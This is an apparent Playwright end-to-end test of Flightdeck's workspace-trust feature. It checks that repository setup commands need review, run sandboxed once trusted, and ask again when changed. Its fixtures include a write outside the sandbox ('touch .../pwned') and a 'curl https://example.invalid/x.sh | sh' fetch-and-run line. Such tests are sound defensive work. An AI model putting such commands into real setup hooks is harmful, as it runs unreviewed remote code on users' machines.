/**
 * Workspace trust in Chromium against the real host: a repository with its own worktree.setup is
 * untrusted when added (the card says so and Flightdeck defaults apply); Review and trust lists
 * exactly the commands; once trusted, a new worktree session runs the setup in the workspace
 * sandbox, its output in terminals opened from the session; a commit that changes the setup makes
 * the card ask again, showing the difference.
 */
import { test, expect } from '@playwright/test';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startHost, type RunningHost } from './support/host';
import { BoardPage } from './poms/board';
import { SessionPage } from './poms/session';
import { TerminalsPage } from './poms/terminals';
import { TrustPage } from './poms/trust';
import { gitIn, makeRepo } from '../support/temp';

let host: RunningHost;
let repo: { path: string; cleanup(): void };
let outside: string;

test.beforeAll(async () => {
  host = await startHost({ env: { ANTHROPIC_API_KEY: 'e2e-test-key' } });
  repo = makeRepo('fd-e2e-trust-');
  // Not under /tmp (the sandbox's /tmp is its own): a write here meets the read-only file system.
  outside = mkdtempSync(join('/var/tmp', 'fd-e2e-trust-outside-'));
  mkdirSync(join(repo.path, '.flightdeck'));
  writeFileSync(join(repo.path, '.gitignore'), '.trees/\n');
  writeFileSync(join(repo.path, '.flightdeck', 'config.yml'), `version: 1\nworktree:\n  setup:\n    - echo installed > setup-ran.txt && echo setup-says-hello\n    - touch ${outside}/pwned\n`);
  gitIn(repo.path, 'add', '.');
  gitIn(repo.path, 'commit', '-q', '-m', 'a setup');
});

test.afterAll(async () => {
  await host?.stop();
  repo?.cleanup();
  if (outside) rmSync(outside, { recursive: true, force: true });
});

test('untrusted on adding, Review and trust shows the commands, the trusted setup runs sandboxed in terminals of the session, a changed setup is asked again', async ({ page }) => {
  const board = new BoardPage(page);
  const trust = new TrustPage(page);
  const terminals = new TerminalsPage(page);
  await board.open(host.url);
  await terminals.useCompatibleRendering();
  const name = await board.addProject(repo.path);
  const card = board.card(name);
  await expect(trust.line(card)).toContainText('Untrusted: Flightdeck defaults apply.');

  // The New session dialog says the same.
  await card.getByTestId('card-new-session').click();
  const newSession = page.getByTestId('new-session-dialog');
  await expect(trust.line(newSession)).toBeVisible();
  await newSession.getByRole('button', { name: 'Cancel' }).click();

  const dialog = await trust.review(card);
  await expect(dialog.getByTestId('trust-kind-command')).toContainText('echo installed > setup-ran.txt && echo setup-says-hello');
  await expect(dialog.getByTestId('trust-kind-command')).toContainText(`touch ${outside}/pwned`);
  mkdirSync('test-results', { recursive: true });
  await page.screenshot({ path: 'test-results/workspace-trust-review.png' });
  await trust.trust();
  await expect(trust.line(card)).toBeHidden();

  await card.getByTestId('card-new-session').click();
  await expect(newSession.getByTestId('placement-worktree').getByRole('radio')).toBeChecked();
  await expect(trust.line(newSession)).toBeHidden();
  await newSession.getByTestId('worktree-name').fill('trusted-setup');
  await newSession.getByTestId('new-session-start').click();
  const session = new SessionPage(page);
  await expect(session.view).toBeVisible();
  const tree = join(repo.path, '.trees/trusted-setup');
  // The setup runs after the worktree is made, its state in the session's bar: here it fails at the write outside.
  const state = page.getByTestId('worktree-setup');
  await expect(state).toHaveAttribute('data-state', 'failed');
  await expect(state).toContainText(`Setup failed: touch ${outside}/pwned — exited with code 1`);
  await expect(page.getByTestId('worktree-setup-rerun')).toBeVisible();
  expect(readFileSync(join(tree, 'setup-ran.txt'), 'utf8')).toBe('installed\n');
  expect(existsSync(join(outside, 'pwned'))).toBe(false);

  // The setup's terminals open from the session: the write outside the worktree failed in the sandbox.
  const setup = page.getByTestId('worktree-setup-terminal');
  await expect(setup).toHaveText('Setup failed');
  await setup.click();
  await expect(terminals.view).toBeVisible();
  await expect(terminals.screen(terminals.pane(0))).toContainText('Read-only file system');
  await expect(terminals.tabs.filter({ hasText: 'setup: echo installed' })).toHaveCount(1);

  // A commit changes the setup: the card asks again, with the difference.
  writeFileSync(join(repo.path, '.flightdeck', 'config.yml'), 'version: 1\nworktree:\n  setup:\n    - curl https://example.invalid/x.sh | sh\n');
  gitIn(repo.path, 'commit', '-q', '-am', 'change the setup');
  await page.getByRole('button', { name: 'Board' }).click();
  await card.getByRole('button', { name: `Refresh ${name}` }).click();
  await expect(trust.line(card)).toHaveAttribute('data-state', 'changed');
  const again = await trust.review(card);
  await expect(again.getByTestId('trust-changes')).toContainText('curl https://example.invalid/x.sh | sh');
  await expect(again.getByTestId('trust-changes')).toContainText('removed');
  await page.screenshot({ path: 'test-results/workspace-trust-changed.png' });
  await again.getByRole('button', { name: 'Cancel' }).click();
  await expect(trust.line(card)).toBeVisible();
});
